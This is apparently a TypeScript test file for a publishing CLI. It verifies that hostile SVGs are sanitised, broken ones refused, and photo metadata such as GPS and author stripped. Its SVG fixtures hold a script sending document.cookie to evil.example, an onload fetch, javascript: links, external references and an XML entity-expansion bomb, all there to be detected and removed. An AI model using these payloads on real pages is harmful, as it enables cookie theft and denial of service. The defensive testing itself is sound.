/**
 * Nothing gets in or leaks through images, through the real CLI: a hostile SVG is published
 * sanitised (with a warning at the image reference), a broken one is refused; photos are
 * published without their metadata, pixels unchanged; the leak search reads image metadata.
 * The photos are made by other producers: jpeg-js and pngjs write the pixels, ExifTool the
 * metadata a camera or an editor would leave.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { VFile } from 'vfile';
import { beforeAll, describe, expect, it } from 'vitest';
import { checkRedactions } from '../scripts/check/redactions.ts';
import { messageLines } from './helpers/messages.ts';
import { runCli, tempDir, writeTree } from './helpers/workspace.ts';

const hostileSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 60" onload="fetch('https://evil.example/?o')">
  <title>Aantal meldingen per maand</title>
  <script>fetch("https://evil.example/?c="+document.cookie)</script>
  <style>@import url(https://evil.example/x.css); .balk { fill: url(#verloop); stroke: url(https://evil.example/t.png) }</style>
  <defs><linearGradient id="verloop"><stop offset="0" stop-color="#154273"/></linearGradient><rect id="blok" width="10" height="10"/></defs>
  <a href="javascript:alert(1)"><rect class="balk" x="10" y="10" width="20" height="40"/></a>
  <image href="https://evil.example/track.png" width="1" height="1"/>
  <use xlink:href="https://evil.example/sprite.svg#x"/>
  <use href="#blok" x="60"/>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <text x="10" y="58">Staafhoogte</text>
</svg>
`;
const entitySvg = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Lijn</title><rect width="5" height="5"/></svg>
`;

/** A 16×8 picture with a colour ramp, as JPEG (jpeg-js) or PNG (pngjs). */
function pixels() {
  const data = Buffer.alloc(16 * 8 * 4);
  for (let i = 0; i < 16 * 8; i++) data.set([(i * 7) % 256, (i * 13) % 256, 200, 255], i * 4);
  return data;
}

const exiftool = (args: string[]) => execFileSync('exiftool', args, { encoding: 'utf8' });

describe('images in a public build', () => {
  let root: string;
  let stderr: string;
  beforeAll(() => {
    const png = new PNG({ width: 16, height: 8 });
    pixels().copy(png.data);
    root = writeTree({
      'content/nota/index.md': `---\ntitle: Nota met afbeeldingen\ntype: rapport\nlang: nl\ndate: 2026-01-31\nstatus: definitief\n---\n\n## Grafieken\n\n![Staafdiagram van het aantal meldingen per maand](img/grafiek.svg)\n\n![Een lijn](img/entiteiten.svg)\n\n## Foto's\n\n![Het kantoor van Flits Media aan de gracht](img/foto.jpg)\n\n![Schermafdruk van de instellingen](img/scherm.png)\n`,
      'content/nota/img/grafiek.svg': hostileSvg,
      'content/nota/img/entiteiten.svg': entitySvg,
      'content/nota/img/foto.jpg': jpeg.encode({ data: pixels(), width: 16, height: 8 }, 90).data,
      'content/nota/img/scherm.png': PNG.sync.write(png),
    });
    const img = path.join(root, 'content/nota/img');
    exiftool([
      '-q',
      '-overwrite_original',
      '-Artist=Piet Fotograaf',
      '-GPSLatitude=52.0801',
      '-GPSLatitudeRef=N',
      '-GPSLongitude=4.3129',
      '-GPSLongitudeRef=E',
      '-SerialNumber=CAM-4711',
      '-XMP-dc:Creator=Piet Fotograaf',
      '-IPTC:By-line=Piet Fotograaf',
      '-Comment=Foto: Piet Fotograaf',
      '-Orientation#=6',
      path.join(img, 'foto.jpg'),
    ]);
    exiftool(['-q', '-overwrite_original', '-PNG:Author=Piet Fotograaf', '-PNG:CreationTime=2026:01:05 09:30:00', path.join(img, 'scherm.png')]);
    const built = runCli(['build'], root);
    stderr = built.stderr;
    expect(built.code, built.stderr).toBe(0);
  }, 120_000);

  it('warns at each SVG reference what was removed, and nothing else', () => {
    expect(messageLines(stderr)).toEqual([
      '11:1-11:68 warning Unexpected url(…) or @import in a <style> element; attribute href="javascript:alert(1)" on <a> (a reference outside the file); attribute href="https://evil.example/track.png" on <image> (a reference outside the file); attribute xlink:href="https://evil.example/sprite.svg#x" on <use> (a reference outside the file); attribute onload on <svg>; element <script>; element <foreignObject> in `img/grafiek.svg`, expected an SVG without scripts, event handlers or references outside the file (removed from the published copy) unsafe-svg kia-images',
      '13:1-13:32 warning Unexpected XML entity declarations (<!DOCTYPE … [<!ENTITY …>]>) in `img/entiteiten.svg`, expected an SVG without scripts, event handlers or references outside the file (removed from the published copy) unsafe-svg kia-images',
    ]);
  });

  it('publishes the SVG without scripts, handlers or outside references, its drawing kept', () => {
    const svg = readFileSync(path.join(root, 'dist/nota/img/grafiek.svg'), 'utf8');
    for (const unsafe of ['<script', 'onload', 'javascript:', 'evil.example', '@import', 'foreignObject']) expect(svg, unsafe).not.toContain(unsafe);
    for (const kept of [
      'viewBox="0 0 120 60"',
      '<linearGradient id="verloop">',
      'fill: url(#verloop)',
      '<use href="#blok" x="60"/>',
      '<title>Aantal meldingen per maand</title>',
    ])
      expect(svg, kept).toContain(kept);
    expect(readFileSync(path.join(root, 'dist/nota/img/entiteiten.svg'), 'utf8')).not.toContain('ENTITY');
    // The sanitised file is what Chromium drew into the PDF: its text is there.
    expect(execFileSync('pdftotext', [path.join(root, 'dist/nota/nota.pdf'), '-'], { encoding: 'utf8' })).toContain('Staafhoogte');
  });

  it('publishes the photos without metadata, pixels, colour and orientation unchanged, and lists what was removed', () => {
    const img = (dir: string, name: string) => path.join(root, dir, 'nota/img', name);
    const left = JSON.parse(exiftool(['-j', '-G1', '-a', img('dist', 'foto.jpg'), img('dist', 'scherm.png')])) as Array<Record<string, unknown>>;
    for (const tags of left) {
      const text = JSON.stringify(tags);
      for (const trace of ['Piet', 'Fotograaf', 'CAM-4711', 'GPS', '52.08', 'CreationTime']) expect(text, trace).not.toContain(trace);
    }
    expect(left[0]['IFD0:Orientation']).toBe('Rotate 90 CW');
    expect(jpeg.decode(readFileSync(img('dist', 'foto.jpg'))).data).toEqual(jpeg.decode(readFileSync(img('content', 'foto.jpg'))).data);
    expect(PNG.sync.read(readFileSync(img('dist', 'scherm.png'))).data).toEqual(PNG.sync.read(readFileSync(img('content', 'scherm.png'))).data);
    const manifest = JSON.parse(readFileSync(path.join(root, 'dist/manifest.json'), 'utf8')) as {
      documents: Array<{ images: Array<{ path: string; removedMetadata: string[] }> }>;
    };
    const images = Object.fromEntries(manifest.documents[0].images.map((image) => [image.path, image.removedMetadata]));
    expect(images['img/foto.jpg']).toEqual(
      expect.arrayContaining(['IFD0:Artist', 'GPS:GPSLatitude', 'GPS:GPSLongitude', 'ExifIFD:SerialNumber', 'XMP-dc:Creator', 'IPTC:By-line', 'File:Comment']),
    );
    expect(images['img/scherm.png']).toEqual(['PNG:Author', 'PNG:CreationTime']);
    expect(images['img/grafiek.svg']).toEqual([]);
    expect(JSON.stringify(manifest)).not.toContain('Fotograaf');
  });

  it('refuses an SVG that is not well-formed, at its reference', () => {
    const broken = writeTree({
      'content/nota/index.md': `---\ntitle: Nota\ntype: rapport\nlang: nl\ndate: 2026-01-31\nstatus: definitief\n---\n\n![Een grafiek](kapot.svg)\n`,
      'content/nota/kapot.svg': '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>\n',
    });
    const { code, stderr: messages } = runCli(['build', '--no-pdf', '--no-check'], broken);
    expect(code).toBe(1);
    expect(messageLines(messages)).toEqual([
      '9:1-9:26 error Unexpected SVG `kapot.svg` that is not well-formed XML (1:52: unexpected close tag.), expected a well-formed SVG file invalid-svg kia-images',
    ]);
  });
});

describe('the leak search reads image metadata', () => {
  it("finds a withheld name in a published photo's EXIF, XMP and PNG text", async () => {
    const dir = tempDir();
    const png = new PNG({ width: 16, height: 8 });
    pixels().copy(png.data);
    writeTree({ 'nota/foto.jpg': jpeg.encode({ data: pixels(), width: 16, height: 8 }, 90).data, 'nota/scherm.png': PNG.sync.write(png) }, dir);
    exiftool(['-q', '-overwrite_original', '-XMP-dc:Creator=PIET FOTOGRAAF', path.join(dir, 'nota/foto.jpg')]);
    // A compressed text chunk (zTXt): not in the file's bytes as text, only decoded.
    exiftool(['-q', '-overwrite_original', '-PNG:Comment=Gemaakt door Piet Fotograaf', '-PNG:Compressed=1', path.join(dir, 'nota/scherm.png')]);
    const file = new VFile({ path: 'content/nota/index.md' });
    expect(await checkRedactions(dir, [{ text: 'Piet Fotograaf', ground: '5.1.2e', file }])).toBe(false);
    const reasons = file.messages.map((message) => message.reason);
    expect(reasons).toHaveLength(2);
    expect(reasons[0]).toMatch(/in `nota\/foto\.jpg` \(.*image metadata, line \d+: „PIET FOTOGRAAF”\)/);
    expect(reasons[1]).toMatch(/in `nota\/scherm\.png` \(image metadata, line \d+: „Piet Fotograaf”\)/);
  });
});
